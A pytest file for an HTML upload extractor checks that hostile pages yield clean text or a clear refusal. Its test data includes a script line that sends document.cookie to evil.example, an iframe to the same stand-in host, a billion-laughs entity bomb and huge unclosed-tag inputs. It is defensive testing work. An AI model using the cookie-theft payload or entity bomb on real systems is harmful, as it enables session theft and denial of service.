"""Tests for analysis.input.html: hostile HTML uploads give text or a clear refusal.

Never a RecursionError, never runaway memory or time: the entity guard runs
before any parser, deep nesting goes to the tree-free tag stripper, and every
scan is linear.
"""

from __future__ import annotations

import pytest

from analysis import messages
from analysis.input.html import MAX_DEPTH, extract, nesting_depth, plain_text, strip_elements
from analysis.input.loading import read_upload
from analysis.results.article import FileError

BODY = (
    "<p>The defence minister met his counterpart in Tokyo on Tuesday to discuss the alliance, "
    "officials said after the meeting ended late in the evening.</p>"
    "<p>Both sides agreed to expand joint exercises next year, according to a statement released "
    "by the ministry, which gave few further details about the plans.</p>"
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    ' <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n'
    "<html><body><p>&lol9;</p></body></html>"
)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>document.location='http://evil.example/?c='+document.cookie</script>",
        "<style>body { display: none }</style>",
        "<iframe src='http://evil.example'>IFRAME FALLBACK TEXT</iframe>",
        "<noscript>NOSCRIPT TEXT</noscript>",
        "<SCRIPT type='text/javascript'>var x = '<p>not text</p>';</SCRIPT >",
    ],
    ids=["script", "style", "iframe", "noscript", "script-uppercase"],
)
def test_html_script_style_iframe_dropped(hostile):
    page = (
        f"<html><head><title>T</title>{hostile}</head><body>{hostile}{BODY}{hostile}</body></html>"
    )
    (article,), errors = read_upload("page.html", page.encode())
    assert errors == []
    assert "officials said after the meeting" in article.text
    for leaked in ("document", "display", "IFRAME FALLBACK", "NOSCRIPT", "not text", "evil"):
        assert leaked not in article.text


def test_html_ten_thousand_deep_extracts_text():
    page = "<html><body>" + "<div>" * 10_000 + BODY + "</div>" * 10_000 + "</body></html>"
    assert nesting_depth(page) == MAX_DEPTH
    (article,), errors = read_upload("deep.html", page.encode())
    assert errors == []
    assert article.text.startswith("The defence minister met his counterpart in Tokyo")
    assert article.warnings == (messages.HTML_TOO_DEEP,)


def test_html_deep_unclosed_spans_do_not_recurse():
    page = "<span>" * 50_000 + "Deep text."
    assert extract(page).text == "Deep text."


def test_html_billion_laughs_refused():
    articles, errors = read_upload("lol.html", BILLION_LAUGHS.encode())
    assert articles == []
    assert errors == [FileError("lol.html", messages.HTML_ENTITIES)]
    assert errors[0].message.startswith("could not extract")


def test_html_no_text_says_could_not_extract():
    articles, errors = read_upload("empty.html", b"<html><body><script>x()</script></body></html>")
    assert articles == []
    assert errors == [FileError("empty.html", messages.HTML_NO_TEXT)]


def test_html_short_page_falls_back_to_tag_stripper():
    result = extract("<p>Short note: rates rose &amp; fell.</p>")
    assert result.text == "Short note: rates rose & fell."
    assert result.warning == messages.HTML_FALLBACK


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\nTwo"),
        ("a <b>bold</b> word", "a bold word"),
        ("x &lt;script&gt; y", "x <script> y"),
        ("double &amp;lt; stays", "double &lt; stays"),
        ("<!-- hidden --><p>shown</p>", "shown"),
        ("<!-- never closed <p>gone</p>", ""),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<script>unclosed", ""),
        ("<br/>line<br>next", "line\nnext"),
    ],
)
def test_html_plain_text(html, text):
    assert plain_text(html) == text


@pytest.mark.parametrize(
    ("page", "depth", "text", "stripped"),
    [
        # No ">" ever closes these tags, so the page is all text.
        ("<a " * 200_000, 0, ("<a " * 200_000).strip(), "<a " * 200_000),
        # An unclosed comment hides the rest; strip_elements keeps comments.
        ("<!--" * 200_000, 0, "", "<!--" * 200_000),
        # An unclosed <script> drops everything after it; nesting stops at the cap.
        ("<script>" * 100_000, MAX_DEPTH, "", ""),
        ("<" * 100_000, 0, "<" * 100_000, "<" * 100_000),
        ("&" * 500_000, 0, "&" * 500_000, "&" * 500_000),
    ],
    ids=["unclosed-tags", "comment-openers", "script-openers", "angles", "ampersands"],
)
def test_html_pathological_pages_finish_with_their_text(page, depth, text, stripped):
    # Linear scans: these took minutes with a scan to the end per "<"; now
    # they finish at once (no timing asserted) and give the expected text.
    assert nesting_depth(page) == depth
    assert plain_text(page) == text
    assert strip_elements(page) == stripped


def test_html_megabyte_of_unclosed_tags_reads_through_the_loader():
    # 3 MB of "<a " did not finish in 180 s in the HTML path (issue 16).
    page = "<a " * 350_000
    (article,), errors = read_upload("page.html", page.encode())
    assert errors == []
    assert article.text == page.strip()
    assert article.warnings == (messages.HTML_FALLBACK,)


def test_html_paragraphs_without_end_tags_are_not_deep():
    page = "<body>" + "<p>Para" * 1000 + "<ul>" + "<li>item" * 1000 + "</ul></body>"
    # <body>, <p> and <li> may omit their end tags; only <ul> counts.
    assert nesting_depth(page) == 1
